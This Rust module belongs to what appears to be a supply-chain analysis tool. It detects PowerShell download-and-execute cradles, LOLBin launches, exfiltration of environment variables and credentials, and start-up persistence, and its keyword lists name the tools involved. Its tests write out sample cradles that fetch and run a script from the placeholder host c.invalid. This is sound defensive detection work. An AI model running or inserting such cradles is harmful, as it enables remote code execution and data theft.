//! PowerShell and the system's own downloaders.

use super::At;
use crate::flow::Analysis;
use crate::know;
use customs_model::{SinkKind, SourceKind, Target};

impl Analysis<'_> {
    /// PowerShell and the system's own downloaders, by their words: the language is not
    /// parsed, so only whole cradles count.
    pub(super) fn power_shell(&mut self, line: &str, at: &At) {
        // A shell takes `$env` for a variable of its own.
        let line = &line
            .replace(['\u{fdd0}', '\u{fdd1}'], "")
            .replace('\n', "; ");
        // What stands in pieces is read as what it is put together to, beside what it is.
        let whole = crate::shell::folded_power_shell(line);
        let line = &match whole {
            Some(whole) => format!("{whole}; {line}"),
            None => line.clone(),
        };
        let plain: String = line
            .to_ascii_lowercase()
            .chars()
            .filter(|c| !matches!(c, '`' | '^' | '"' | '\'' | '+'))
            .collect();
        let downloads = [
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "invoke-webrequest",
            "iwr ",
            "invoke-restmethod",
            "irm ",
            "start-bitstransfer",
            "-urlcache",
            "bitsadmin",
            "wget ",
            "curl ",
            "openread(",
            "net.webclient",
            "xmlhttp",
        ]
        .iter()
        .any(|word| plain.contains(word));
        let runs = [
            "iex",
            "invoke-expression",
            "start-process",
            "| powershell",
            ";&",
            "& $",
            "&(",
            "& (",
            "invoke-item",
            "saps ",
            "rundll32",
            "regsvr32",
            "assembly]::load",
            "reflection.assembly",
            "invoke-command",
            "start /b",
            "wscript",
            "cscript",
            ".invoke(",
            "add-type -typedefinition $",
            "marshal]::copy($",
        ]
        .iter()
        .any(|word| plain.contains(word));
        let by_itself = plain.contains("mshta") && plain.contains("://")
            || plain.contains("regsvr32") && plain.contains("/i:http")
            || plain.contains("msiexec") && plain.contains("://")
            || plain.contains("rundll32") && plain.contains("javascript:");
        let saved_and_run =
            downloads && (plain.contains(".exe") && (plain.contains("&&") || plain.contains(';')));
        if downloads && runs || by_itself || saved_and_run {
            let host = host_in(line).unwrap_or_else(|| "a host".to_owned());
            let label = self.source(SourceKind::Remote, &format!("the answer of {host}"), at);
            self.command_flow(
                &label,
                SinkKind::Process,
                "PowerShell",
                Target::Constant(host),
                at,
                Vec::new(),
            );
        }
        if downloads {
            let host = host_in(line).map_or(Target::Opaque, Target::Constant);
            let whole = [
                "gci env:",
                "get-childitem env:",
                "dir env:",
                "ls env:",
                "get-item env:",
                "getenvironmentvariables",
            ]
            .iter()
            .any(|word| plain.contains(word));
            let who = [
                "$env:computername",
                "$env:username",
                "$env:userdomain",
                "hostname",
                "whoami",
            ]
            .iter()
            .any(|word| plain.contains(word));
            let key = plain
                .split(|c: char| {
                    c.is_whitespace() || matches!(c, '(' | ')' | ',' | ';' | '{' | '}')
                })
                .find_map(know::credential_place);
            if let Some(what) = key {
                let label = self.source(SourceKind::CredentialFile, what, at);
                self.command_flow(
                    &label,
                    SinkKind::Network,
                    "PowerShell",
                    host,
                    at,
                    Vec::new(),
                );
            } else if whole {
                let label = self.source(SourceKind::Environment, "the environment", at);
                self.command_flow(
                    &label,
                    SinkKind::Network,
                    "PowerShell",
                    host,
                    at,
                    Vec::new(),
                );
            } else if who {
                let label = self.source(SourceKind::Identity, "the computer's name", at);
                self.command_flow(
                    &label,
                    SinkKind::Network,
                    "PowerShell",
                    host,
                    at,
                    Vec::new(),
                );
            }
        }
        if plain.contains("currentversion\\run")
            || plain.contains("register-scheduledtask")
            || plain.contains("schtasks") && plain.contains("/create")
        {
            let label = self.source(SourceKind::Constant, "a start-up entry", at);
            self.command_flow(
                &label,
                SinkKind::Configuration,
                "PowerShell",
                Target::Constant("start-up entry".to_owned()),
                at,
                Vec::new(),
            );
        }
    }
}

/// Whether a line starts PowerShell and goes on, without quotes, in a way that no other shell reads:
/// `powershell -c iwr … -OutFile a.ps1; & a.ps1`. Where it is started it is PowerShell's as a whole.
pub(super) fn is_no_shells(line: &str) -> bool {
    let first = line.split_whitespace().next().unwrap_or_default();
    let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let name = name.to_ascii_lowercase();
    if !matches!(
        name.strip_suffix(".exe").unwrap_or(&name),
        "powershell" | "pwsh"
    ) {
        return false;
    }
    let mut quote = None;
    let mut ended = false;
    for c in line.chars() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, ';') => ended = true,
            (None, '&') if ended => return true,
            (None, c) if c.is_whitespace() => {}
            (None, _) => ended = false,
        }
    }
    false
}

/// The host of the first address in a line, with its owner's path where many share it.
fn host_in(line: &str) -> Option<String> {
    let at = line.find("://")?;
    // As far back as the longest scheme, never into the middle of a letter.
    let start = line.floor_char_boundary(at.saturating_sub(5));
    let behind = line.get(at + 3..)?;
    let end = behind
        .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\''))
        .unwrap_or(behind.len());
    know::place_of(line.get(start..at + 3 + end)?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_that_only_power_shell_reads_is_told_by_what_ends_its_commands() {
        for whole in [
            r"powershell -w hidden -c iwr https://c.invalid/x -OutFile $env:TEMP\a.ps1; & $env:TEMP\a.ps1",
            r"C:\Windows\powershell.exe -c iwr https://c.invalid/x -OutFile a.ps1 ;& a.ps1",
        ] {
            assert!(is_no_shells(whole), "{whole}");
        }
        for other in [
            "powershell -c \"iwr x; & y\" && node build.js",
            "powershell -c a; node b.js & node c.js",
            "node a.js; & b",
            "powershell -File a.ps1 & exit",
        ] {
            assert!(!is_no_shells(other), "{other}");
        }
    }

    #[test]
    fn an_address_is_found_behind_letters_of_several_bytes() {
        assert_eq!(
            host_in("iwr 名é://c.invalid/x").as_deref(),
            Some("c.invalid")
        );
        assert_eq!(
            host_in("iwr https://c.invalid/x").as_deref(),
            Some("c.invalid")
        );
        assert_eq!(host_in("no address"), None);
        assert_eq!(
            host_in("& 'http://github.com/lk/tool/x.ps1' 'https://c.invalid'").as_deref(),
            Some("github.com/lk")
        );
        let long = format!("https://c.invalid/{}", "名".repeat(5_000));
        assert_eq!(host_in(&long).as_deref(), Some("c.invalid"));
    }
}
